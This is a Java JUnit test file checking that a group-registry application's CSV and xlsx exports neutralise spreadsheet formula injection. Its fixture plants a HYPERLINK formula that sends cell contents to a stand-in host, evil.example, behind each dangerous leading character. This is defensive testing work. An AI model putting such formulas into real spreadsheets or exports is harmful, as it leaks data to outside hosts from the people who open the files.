package com.qundesk.group.registry;

import com.qundesk.cli.QunDeskCli;
import com.qundesk.group.Group;
import com.qundesk.group.GroupKind;
import com.qundesk.group.Platform;
import com.qundesk.group.Purpose;
import com.qundesk.testsupport.TestWorkspace;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.dhatim.fastexcel.reader.Cell;
import org.dhatim.fastexcel.reader.CellType;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.Row;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.PrintWriter;
import java.io.StringReader;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.PreparedStatement;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Every CSV/xlsx export (the registry as CSV and .xlsx, {@code groups list --format csv}) neutralises cells that a
 * spreadsheet would run as a formula: a cell starting with = + - @ tab or CR comes back with a leading apostrophe.
 */
class ExportSafetyTest {

    /** The six starts, each followed by a classic payload. */
    static final List<String> EVIL = Stream.of("=", "+", "-", "@", "\t", "\r")
            .map(c -> c + "HYPERLINK(\"http://evil.example/?\"&A1,\"open\")").toList();

    @TempDir
    Path dir;
    TestWorkspace w;
    /** Every evil value that went into a text field of some group. */
    final List<String> planted = new ArrayList<>();

    @BeforeEach
    void setUp() {
        w = new TestWorkspace(dir.resolve("ws"));
        int i = 0;
        for (String evil : EVIL) {
            String v = evil + i++;
            Group g = w.ctx.groups().create(Group.draft(Platform.WECHAT, "group " + v, Purpose.FAN, GroupKind.LONG_TERM)
                    .toBuilder().owner("owner").admins(List.of("admin")).tags(List.of("tag"))
                    .notes("notes").dissolutionReason("reason").build());
            // The service trims text, so tab and CR could never arrive through it; write every field straight into
            // the store (an older version, a restored backup): the exporters must not rely on the trimming.
            w.ctx.database().inTransaction(c -> {
                try (PreparedStatement ps = c.prepareStatement("UPDATE chat_group SET name = ?, external_id = ?, "
                        + "owner = ?, admins = ?, notes = ?, dissolution_reason = ? WHERE id = ?")) {
                    ps.setString(1, v + "n");
                    ps.setString(2, v + "x");
                    ps.setString(3, v + "o");
                    ps.setString(4, v + "a");
                    ps.setString(5, v + "t");
                    ps.setString(6, v + "r");
                    ps.setLong(7, g.id());
                    ps.executeUpdate();
                }
                try (PreparedStatement ps = c.prepareStatement("UPDATE group_tag SET tag = ? WHERE group_id = ?")) {
                    ps.setString(1, v + "g");
                    ps.setLong(2, g.id());
                    ps.executeUpdate();
                }
                return null;
            });
            for (String suffix : List.of("n", "x", "o", "a", "t", "r", "g")) {
                planted.add(v + suffix);
            }
        }
        assertThat(w.ctx.groups().list()).extracting(Group::name).allMatch(n -> EVIL.stream()
                .anyMatch(e -> n.startsWith(e.substring(0, 1))));
    }

    @Test
    void registryCsvNeutralisesEveryCell() throws Exception {
        Path file = dir.resolve("groups.csv");
        w.ctx.registryExporter().export(file, true);
        String text = Files.readString(file, StandardCharsets.UTF_8);
        assertThat(text).startsWith("\uFEFF");
        assertNeutralised(csvCells(text.substring(1)));
    }

    @Test
    void registryXlsxNeutralisesEveryCellAndHoldsNoFormula() throws Exception {
        Path file = dir.resolve("groups.xlsx");
        w.ctx.registryExporter().export(file, true);
        List<String> cells = new ArrayList<>();
        try (ReadableWorkbook wb = new ReadableWorkbook(file.toFile())) {
            List<Row> rows = wb.getFirstSheet().read();
            assertThat(rows).hasSize(1 + EVIL.size());
            for (Row r : rows.subList(1, rows.size())) {
                for (Cell c : r) {
                    if (c == null) {
                        continue;
                    }
                    assertThat(c.getType()).isNotEqualTo(CellType.FORMULA);
                    cells.add(c.getText());
                }
            }
        }
        assertNeutralised(cells);
    }

    @Test
    void groupsListCsvOnTheCommandLineNeutralisesEveryCell() throws Exception {
        w.close();
        StringWriter out = new StringWriter();
        int code = QunDeskCli.run(new String[] {"groups", "list", "--format", "csv", "--workspace", w.file.toString()},
                w.paths, w.clock, new PrintWriter(out), new PrintWriter(new StringWriter()));
        assertThat(code).isZero();
        List<String> cells = csvCells(out.toString());
        // this listing has no admins, notes or reason columns
        planted.removeIf(p -> p.endsWith("a") || p.endsWith("t") || p.endsWith("r"));
        assertNeutralised(cells);
    }

    private static List<String> csvCells(String text) throws Exception {
        List<String> cells = new ArrayList<>();
        try (CSVParser p = CSVParser.parse(new StringReader(text), CSVFormat.RFC4180)) {
            List<CSVRecord> records = p.getRecords();
            for (CSVRecord r : records.subList(1, records.size())) {
                r.forEach(cells::add);
            }
        }
        return cells;
    }

    private void assertNeutralised(List<String> cells) {
        for (String cell : cells) {
            assertThat(cell).as("a cell a spreadsheet would run").doesNotStartWith("=").doesNotStartWith("+")
                    .doesNotStartWith("-").doesNotStartWith("@").doesNotStartWith("\t").doesNotStartWith("\r");
        }
        for (String p : planted) {
            assertThat(cells).as("neutralised " + p.replace("\t", "\\t").replace("\r", "\\r")).contains("'" + p);
        }
    }
}
